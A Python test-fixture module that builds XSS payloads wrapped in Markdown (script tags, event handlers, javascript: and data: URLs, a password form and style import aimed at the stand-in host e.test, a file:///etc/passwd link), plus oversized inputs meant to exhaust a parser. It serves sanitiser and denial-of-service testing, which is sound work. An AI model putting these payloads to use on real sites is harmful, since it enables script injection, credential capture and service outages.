"""Texts written to do harm: those that would run code in a reader's browser, and those that would cost too much."""

from itertools import product

LENGTH = 30_000

_SCRIPTS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<iframe src='javascript:alert(1)'></iframe>",
    "<body onload=alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<style>@import'//e.test'</style>",
    "<link rel=stylesheet href=//e.test>", "<meta http-equiv=refresh content='0;url=//e.test'>", "<base href=//e.test>",
    "<form action=//e.test><input name=password>", "<object data=//e.test>", "<embed src=//e.test>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<p id=csrf name=token style=position:fixed class=staff>x</p>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?php echo 1 ?>", "</p></div><script>alert(1)</script>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>", "<textarea></textarea><img src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>", "<marquee onstart=alert(1)>", "<select><option><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<xss/**/onclick=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
    "\\<script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", "<<script>script>alert(1)</script>", "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">", "<a\thref\n=\njavascript:alert(1)>x</a>",
]  # fmt: skip
_ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#x3A;alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=", "blob:https://e.test/1", "file:///etc/passwd", "filesystem:x", "view-source:x", "ms-help:x", "ws://e.test",
    "feed:javascript:alert(1)", "//e.test/x", "/\\e.test", "\\\\e.test", "https:e.test", "javascript://%0aalert(1)", "x:y", "about:blank", "intent:x#Intent;end",
    "http://e.test/\"onmouseover=alert(1)//", "http://e.test/'><script>alert(1)</script>", "http://e.test/`onclick=alert(1)`", "mailto:a@e.test\"onclick=\"x",
]  # fmt: skip
_PLACES = [
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "[![x]({})](/y)", "[x](/y \"{}\")", "![{}](/media/a.png)", "[x](/media/{})",
    "![x](/media/{})", "![x](/media/../{})",
]  # fmt: skip
_AROUND = [
    "{}", "# {}", "> {}", "- {}", "- [ ] {}", "*{}*", "`{}`", "    {}", "```{}\nx\n```", "```html\n{}\n```", "| {} |\n|--|\n| {} |", "[{}](/x)",
    "$a_{{1}} {}$", "@anna{}", "[x](/y '{}')",
]  # fmt: skip

SCRIPTED: list[str] = [around.format(*[script] * around.count("{}")) for script, around in product(_SCRIPTS, _AROUND)] + [
    place.format(address) for address, place in product(_ADDRESSES, _PLACES)
]


def _fill(unit: str) -> str:
    return (unit * (LENGTH // len(unit) + 1))[:LENGTH]


def _balanced(left: str, right: str) -> str:
    times = LENGTH // (len(left) + len(right))
    return left * times + right * times


_UNITS = [
    "[", "*", "**", "_", "~~", "`", "``", "![", "[](", "[a](", "[a][", "[a]", "<", "<a ", "&", "&amp;", "&#", "\\", "|", "|x|y|\n", ">", "> ", ">\n", "- ",
    "-\n", "- a\n", "* ", "1. a\n", "#\n", "# a\n", "---\n", "===\n", "a\n", "a\n\n", "a\n=\n", "@a ", "@a", "$", "$$", "$a_", "$a_$ ", "http://",
    "http://a", "https://a.it/ ", "mailto:a@", "<http://a>", "[a]: b\n", "[a]:\n", "[a]: <", "[x] ", "- [x] a\n", "    a\n", "\t- ", "```\n", "~~~\n", "!",
    "*a ", " *a", "*a* ", "*a**b", "a*b", "_a_ ", "~~a~~ ", "`a` ", "*_", "*~", "[*", "*[", "](", "[]()", "[a](b) ", "![a](b) ", "![a](/media/a.png) ",
    "![[", "[[]", "[]]", "[a\\[", "`[", "<!--", "<?", "<![CDATA[", "<div>", "</div>\n", "<p\n", "&lt;", '"', "\u00a0", "a\\\n", "a  \n", "a:b:", "+ a\n",
    "> - ", "- > ", "* * * ", "* a\n * b\n", "[a]: /b\n\n[a]\n", "\n", "-\n\n", "|a|\n|-|\n", "|-", "a|b\n-|-\n", "[a](<", '[a](b "', "[](((", "<<",
    "[\\]", "\\`", "http://a.b.c.d.e.f/((((", "http://a.it/[", "http://a@", "@a.", "word ", "```c\na\n```\n", "```python\nif 1:2\n```\n",
    "http://" + "x" * 60 + ".",
]  # fmt: skip
_PAIRS = [("[", "]"), ("*", "a*"), ("![", "](b)"), ("[", "](b)"), (">", "a"), ("**a ", "**"), ("*a", "*"), ("<", ">"), ("[a](", "b)"), ("*a ", "b* ")]
_FENCES = [
    ("c", "\n"), ("cpp", "/"), ("java", "\n"), ("typescript", "a."), ("typescript", "a.b.c"), ("python", "<?"), ("html", "&"), ("diff", "@@ "),
    ("csharp", '\\"'), ("css", '<a\\"'), ("kotlin", "enum "), ("yaml", "@"), ("rust", "//"), ("go", '\\"'), ("perl", "m{"),
]  # fmt: skip

COSTLY: dict[str, str] = {
    **{f"{unit!r} repeated": _fill(unit) for unit in _UNITS},
    **{f"{left!r} then {right!r}": _balanced(left, right) for left, right in _PAIRS},
    **{f"{name} {unit!r}": f"```{name}\n{(unit * 8_000)[:7_900]}\n```\n" * 3 for name, unit in _FENCES},
    "backticks of all lengths": "".join("`" * size + " " for size in range(1, 240)),
    "7,000 columns": "|" + "a|" * 7_000 + "\n|" + "-|" * 7_000 + "\n",
    "rows filled up": "|" + "a|" * 20 + "\n|" + "-|" * 20 + "\n" + "a\n" * 14_000,
    "references": "".join(f"[{i}]: b\n" for i in range(2_500)),
    "references used": "".join(f"[{i}]: b\n" for i in range(800)) + "\n" + "".join(f"[{i}] " for i in range(3_000)),
    "lists inside lists": "\n".join("  " * i + "- a" for i in range(160)),
    "lists nine deep": "\n".join("  " * (i % 9) + "- a" for i in range(2_400)),
    "lazy quote": "> " * 18 + "a\n" + "a\n" * 14_000,
    "quotes 18 deep": ("> " * 18 + "a\n") * 800,
    "endless reference": "[a]: " + "b\n" * 14_000,
    "endless title": '[a]: b "' + "c\n" * 14_000,
    "endless label": "[" + "c\n" * 14_000,
    "long host": "http://" + "a-" * 14_000,
    "long host of dots": "http://" + "a." * 14_000,
    "brackets in an address": "http://a.it/" + "(" * 29_000,
    "entity": "&" + "a" * 29_000,
    "all signs": _fill("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~"),
    "everything": _fill("# a *b* `c` [d](/e) @f\n\n- a\n- b\n\n> q\n\n|a|b|\n|-|-|\n|c|d|\n\n"),
}
